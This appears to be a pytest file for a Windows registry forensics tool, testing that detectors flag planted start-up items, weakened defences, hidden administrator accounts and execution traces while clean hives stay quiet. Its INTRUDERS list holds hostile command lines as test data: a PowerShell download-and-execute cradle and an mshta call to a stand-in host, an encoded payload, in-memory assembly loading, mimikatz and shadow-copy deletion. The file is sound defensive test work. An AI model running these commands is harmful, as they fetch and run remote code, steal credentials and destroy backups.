# SPDX-License-Identifier: Apache-2.0
"""What an intruder left in the hives of a server is told; the same server before it says nothing above low."""

from __future__ import annotations

import json
import sys
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import polars as pl
import pytest
from memory_events import MemoryEvents

sys.path.insert(0, str(Path(__file__).parents[1] / "formats"))

import hive_samples
from hive_writing import tree, write

from headwater.detect import registry
from headwater.detect.detectors import (
    windows_accounts,
    windows_autoruns,
    windows_defences,
    windows_deleted,
    windows_traces,
)
from headwater.detect.windows_commands import SIEVE, SIGNS, Sign, program_of, signs
from headwater.examine.parsers import windows_registry
from headwater.examine.registry import all_parsers
from headwater.model.kinds import SEVERITY_ORDER, Severity
from headwater.model.ports import Settings
from headwater.model.records import Event, File

SHARED = Path(__file__).parents[3] / "shared" / "data" / "plaso" / "test_data"
DETECTORS = (windows_accounts, windows_autoruns, windows_defences, windows_deleted, windows_traces)


def events_of(hives: dict[str, bytes]) -> MemoryEvents:
    """The events of these hives, by path."""
    found = MemoryEvents()
    for path, data in hives.items():
        for batch in windows_registry.batches(File.of(data, path)):
            feed = batch.feed or windows_registry.FEED
            given = {"feed": feed, "path": path, "clock": "host"}
            frame = batch.events.with_columns(
                pl.col("t_recorded").alias("ts"),
                pl.lit(1, dtype=pl.Int64).alias("source"),
                *(pl.lit(v).alias(k) for k, v in given.items()),
            )
            if frame.height:
                found.put_frame(feed, frame)
    return found


def server(attacked: bool) -> MemoryEvents:
    return events_of({hive_samples.PATHS[name]: make(attacked) for name, make in hive_samples.ALL.items()})


def told(events: MemoryEvents) -> Iterator[Any]:
    for detector in DETECTORS:
        yield from registry.run(detector, events, Settings())


@pytest.fixture(scope="module")
def after() -> list[Any]:
    return list(told(server(True)))


def of(found: list[Any], rule: str) -> list[Any]:
    return [f for f in found if f.rule.id == rule]


@pytest.mark.parametrize(
    ("item", "technique"),
    [
        ("WinUpdateSvc", "T1036.005"),
        ("KzRmtQwa", "T1027.010"),
        ("\\Updater", "T1036.005"),
        ("Updater", "T1027.010"),
        ("Shell", "T1547.004"),
        ("sethc.exe", "T1546.008"),
        ("Security Packages", "T1588.002"),
        ("{B5F8350B-0548-48B1-A6EE-88BD00B4A5E7}", "T1036.005"),
    ],
)
def test_a_planted_start_up_item_is_told(after: list[Any], item: str, technique: str) -> None:
    (finding,) = [f for f in of(after, "windows-autoruns") if f.facts["item"] == item]
    assert finding.severity is Severity.HIGH
    assert technique in finding.rule.techniques
    assert finding.spans
    assert finding.spans[0].claims["key"]


@pytest.mark.parametrize(
    ("fixture", "item"), [("windows_lnk", "update.lnk"), ("windows_task_file", "\\Microsoft\\Windows\\更新检查")]
)
def test_a_start_up_item_in_a_file_of_its_own_is_told_with_the_file(fixture: str, item: str) -> None:
    golden = Path(__file__).parents[1] / "golden" / fixture
    parser = all_parsers()[fixture.replace("_", ".", 1)]
    assert parser.parse is not None
    events = MemoryEvents()
    for name, path in json.loads((golden / "paths.json").read_text()).items():
        held = [r for r in parser.parse(File.of((golden / name).read_bytes(), path)) if isinstance(r, Event)]
        events.put(parser.feed, f"p1!{path}", held)
    found = [f for f in registry.run(windows_autoruns, events, Settings()) if f.facts["item"] == item]
    assert found
    assert all(f.spans[0].span.path.removeprefix("p1!") in f.text.en for f in found)


def test_a_task_that_no_tool_shows_is_told(after: list[Any]) -> None:
    (finding,) = [f for f in of(after, "windows-autoruns") if f.facts["item"] == "\\Updater"]
    assert "安全描述符" in finding.text.zh
    assert finding.spans[0].claims["hidden"] == "no security descriptor"


@pytest.mark.parametrize(
    ("setting", "severity"),
    [
        ("WDigest UseLogonCredential = 1", Severity.HIGH),
        ("Defender exclusion = C:\\Users\\Public", Severity.HIGH),
        ("Windows Defender DisableAntiSpyware = 1", Severity.MEDIUM),
        ("UserAuthentication = 0", Severity.LOW),
        ("PortNumber = 13389", Severity.LOW),
        ("System EnableLUA = 0", Severity.MEDIUM),
        ("firewall StandardProfile EnableFirewall = 0", Severity.LOW),
    ],
)
def test_a_defence_that_was_opened_is_told(after: list[Any], setting: str, severity: Severity) -> None:
    (finding,) = [f for f in of(after, "windows-defences") if f.facts["setting"] == setting]
    assert finding.severity is severity


def test_a_hidden_and_cloned_administrator_is_told(after: list[Any]) -> None:
    found = of(after, "windows-accounts")
    assert {f.rule.techniques[0] for f in found} == {"T1098", "T1564.002"}
    assert all(f.facts["account"] == "support$" and f.facts["administrator"] for f in found)
    assert all(any(c.claims.get("group") == "Administrators" for c in f.spans) for f in found)


def test_traces_of_one_program_are_one_finding(after: list[Any]) -> None:
    (finding,) = of(after, "windows-traces")
    assert finding.facts["program"] == "upd.exe"
    assert finding.facts["ran"]
    assert {c.claims["trace"] for c in finding.spans} == {"shimcache", "bam", "amcache", "muicache"}


INTRUDERS = (
    ("C:\\Users\\Public\\svchost.exe", "masquerade"),
    ("cmd.exe /c echo abcd > \\\\.\\pipe\\abcd", "pipe"),
    ("mshta.exe http://203.0.113.9/a.hta", "script-host"),
    ("powershell -c IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')", "download"),
    ("powershell -nop -e SQBFAFgAKABOAGUAdwAtAE8AYgBqAGUAYwB0ACkA", "encoded"),
    ("powershell [Reflection.Assembly]::Load([Convert]::FromBase64String($a))", "memory-load"),
    ("%COMSPEC% /Q /c echo dir ^> \\\\127.0.0.1\\C$\\__output", "shell-service"),
    ("C:\\$Recycle.Bin\\a.exe", "public"),
    ("C:\\Tools\\rclone.exe mount r: x:", "dual-use"),
    ("C:\\x\\mimikatz.exe privilege::debug", "tool"),
    ("vssadmin.exe Delete Shadows /All /Quiet", "shadow-delete"),
)
STOCK_SYSTEM: dict[str, dict[str, Any]] = {
    "Select": {"Current": 1},
    "ControlSet001\\Control\\Lsa": {
        "Security Packages": ['""'], "Authentication Packages": ["msv1_0"], "Notification Packages": ["rassfm", "scecli"], "LmCompatibilityLevel": 3,
    },
    "ControlSet001\\Control\\Lsa\\OSConfig": {"Security Packages": ["kerberos", "msv1_0", "schannel", "wdigest", "tspkg", "pku2u", "cloudAP"]},
    "ControlSet001\\Control\\SecurityProviders": {"SecurityProviders": "credssp.dll"},
    "ControlSet001\\Control\\Session Manager": {"BootExecute": ["autocheck autochk /q /v *"]},
    "ControlSet001\\Control\\Print\\Monitors\\Local Port": {"Driver": "localspl.dll"},
    "ControlSet001\\Control\\Print\\Providers\\LanMan Print Services": {"Name": "win32spl.dll"},
    "ControlSet001\\Control\\SafeBoot": {"AlternateShell": "cmd.exe"},
    "ControlSet001\\Control\\Terminal Server": {"fDenyTSConnections": 0},
    "ControlSet001\\Control\\Terminal Server\\Wds\\rdpwd": {"StartupPrograms": "rdpclip"},
    "ControlSet001\\Services\\W32Time\\TimeProviders\\NtpClient": {"DllName": "%systemroot%\\system32\\w32time.dll"},
    "ControlSet001\\Services\\COMSysApp": {"ImagePath": "%SystemRoot%\\system32\\dllhost.exe /Processid:{02D4B3F1-FD88-11D1-960D-00805FC79235}"},
    "ControlSet001\\Services\\SamSs": {"ImagePath": "%SystemRoot%\\system32\\lsass.exe"},
    "ControlSet001\\Services\\PerfHost": {"ImagePath": "%SystemRoot%\\SysWow64\\perfhost.exe"},
    "ControlSet001\\Services\\vmci": {"ImagePath": "\\??\\C:\\Windows\\system32\\DRIVERS\\vmci.sys"},
    "ControlSet001\\Services\\WinDefend": {"ImagePath": '"C:\\ProgramData\\Microsoft\\Windows Defender\\platform\\4.18\\MsMpEng.exe"', "Start": 2},
    "ControlSet001\\Services\\TrustedInstaller": {"ImagePath": "%SystemRoot%\\servicing\\TrustedInstaller.exe"},
}  # fmt: skip
STOCK_SOFTWARE: dict[str, dict[str, Any]] = {
    "Microsoft\\Windows NT\\CurrentVersion\\Winlogon": {
        "Shell": "explorer.exe", "Userinit": "C:\\Windows\\system32\\userinit.exe,", "VmApplet": "SystemPropertiesPerformance.exe /pagefile",
    },
    "WOW6432Node\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon": {"Shell": "explorer.exe", "Userinit": "userinit.exe"},
    "Microsoft\\Windows NT\\CurrentVersion\\Windows": {"AppInit_DLLs": ""},
    "Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\mscorsvw.exe": {"MitigationOptions": 1},
    "Microsoft\\Active Setup\\Installed Components\\{89820200-ECBD-11cf-8B85-00AA005B4340}": {"StubPath": "U"},
    "Microsoft\\Active Setup\\Installed Components\\{6BF52A52-394A-11d3-B153-00C04F79FAA6}": {
        "StubPath": "%SystemRoot%\\system32\\unregmp2.exe /FirstLogon",
    },
    "Microsoft\\Active Setup\\Installed Components\\>{22d6f312}": {
        "StubPath": "C:\\Windows\\System32\\rundll32.exe C:\\Windows\\System32\\mscories.dll,Install",
    },
    "Microsoft\\NetSh": {"2": "ifmon.dll", "rasmontr": "rasmontr.dll"},
    "Microsoft\\Windows\\CurrentVersion\\Run": {"VMware User Process": '"C:\\Program Files\\VMware\\VMware Tools\\vmtoolsd.exe" -n vmusr'},
    "Microsoft\\Windows\\CurrentVersion\\Policies\\System": {"EnableLUA": 1, "ConsentPromptBehaviorAdmin": 5},
    "Microsoft\\Windows Defender\\Exclusions\\Paths": {"C:\\Windows\\NTDS": 0, "D:\\SQLData": 0, "C:\\Program Files\\Microsoft SQL Server": 0},
    "Microsoft\\Windows Defender\\Exclusions\\Extensions": {".mdf": 0, ".ldf": 0},
    "Classes": {},
}  # fmt: skip
STOCK_TASKS = (
    ("%windir%\\system32\\rundll32.exe", "/d acproxy.dll,PerformAutochkOperations"),
    ("%systemroot%\\system32\\cmd.exe", "/d /c %systemroot%\\system32\\silcollector.cmd publish"),
    (
        "%windir%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
        "-ExecutionPolicy Unrestricted -WindowStyle Hidden -File x.ps1",
    ),
    ("C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe", "/c"),
)


def test_what_windows_itself_starts_and_sets_says_nothing() -> None:
    software = {k: dict(v) for k, v in STOCK_SOFTWARE.items()}
    for number, (command, arguments) in enumerate(STOCK_TASKS):
        guid = f"{{{number}}}"
        software[f"{hive_samples.CACHE}\\Tree\\Stock{number}"] = {"Id": guid, "SD": b"\1"}
        software[f"{hive_samples.CACHE}\\Tasks\\{guid}"] = {
            "Path": f"\\Stock{number}",
            "Actions": hive_samples.actions(command, arguments),
        }
    hives = {
        hive_samples.PATHS["SYSTEM"]: write(tree(STOCK_SYSTEM), "SYSTEM"),
        hive_samples.PATHS["SOFTWARE"]: write(tree(software), "emRoot\\System32\\Config\\SOFTWARE"),
    }
    found = told(events_of(hives))
    assert [f.text.en for f in found if SEVERITY_ORDER[f.severity] > SEVERITY_ORDER[Severity.LOW]] == []


def test_a_deleted_value_with_an_intruders_command_is_told() -> None:
    (finding,) = told(events_of({"/Users/A/NTUSER.DAT": hive_samples.with_remains()}))
    assert finding.rule.id == "windows-deleted"
    assert finding.severity is Severity.MEDIUM
    assert finding.spans[0].claims["claim"] == "its data: as-left"
    assert finding.spans[0].claims["data"] == "C:\\Users\\Public\\gone.exe"


@pytest.mark.parametrize("sign", [s for s in SIGNS if s.strong], ids=lambda s: s.name)
def test_the_sieve_lets_every_strong_sign_through(sign: Sign) -> None:
    commands = [c for c, n in INTRUDERS if n == sign.name]
    assert all(any(word in c.lower() for word in SIEVE) for c in commands)
    assert commands, f"no example of {sign.name}"


def test_the_same_server_before_says_nothing() -> None:
    assert [f for f in told(server(False)) if SEVERITY_ORDER[f.severity] > SEVERITY_ORDER[Severity.LOW]] == []


@pytest.mark.parametrize(
    "name",
    ["NTUSER.DAT", "NTUSER-WIN7.DAT", "NTUSER-RunTests.DAT", "regf/NTUSER.DAT", "regf/SAM", "winreg/Amcache.hve"],
)
def test_real_hives_without_an_intruder_say_nothing(name: str) -> None:
    if not (SHARED / name).exists():
        pytest.skip(f"no reference data: {name}")
    found = told(events_of({f"/Users/x/{Path(name).name}": (SHARED / name).read_bytes()}))
    assert [f.text.en for f in found if SEVERITY_ORDER[f.severity] > SEVERITY_ORDER[Severity.LOW]] == []


@pytest.mark.parametrize(
    "command",
    [
        "%SystemRoot%\\System32\\svchost.exe -k netsvcs -p",
        "\\SystemRoot\\System32\\smss.exe",
        "System32\\drivers\\disk.sys",
        '"C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe" /svc',
        "C:\\Windows\\system32\\lsass.exe",
        "C:\\Windows\\Microsoft.NET\\Framework64\\v4.0.30319\\mscorsvw.exe",
        "powershell.exe -ExecutionPolicy Bypass -File C:\\Scripts\\backup.ps1",
        "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18\\MsMpEng.exe",
        "%windir%\\system32\\rundll32.exe /d acproxy.dll,PerformAutochkOperations",
        "cmd.exe /c start /b C:\\Tools\\agent.exe",
    ],
)
def test_an_ordinary_command_has_no_strong_sign(command: str) -> None:
    assert [s.name for s in signs(command) if s.strong] == []


@pytest.mark.parametrize(("command", "name"), INTRUDERS)
def test_an_intruders_command_has_its_sign(command: str, name: str) -> None:
    assert name in [s.name for s in signs(command)]


def test_the_program_of_a_command_is_found_with_and_without_quotes() -> None:
    assert program_of('"C:\\Program Files\\A B\\c.exe" /x') == "c:\\program files\\a b\\c.exe"
    assert program_of("C:\\Program Files\\A B\\c.exe /x") == "c:\\program files\\a b\\c.exe"
    assert program_of("ctfmon") == "ctfmon"
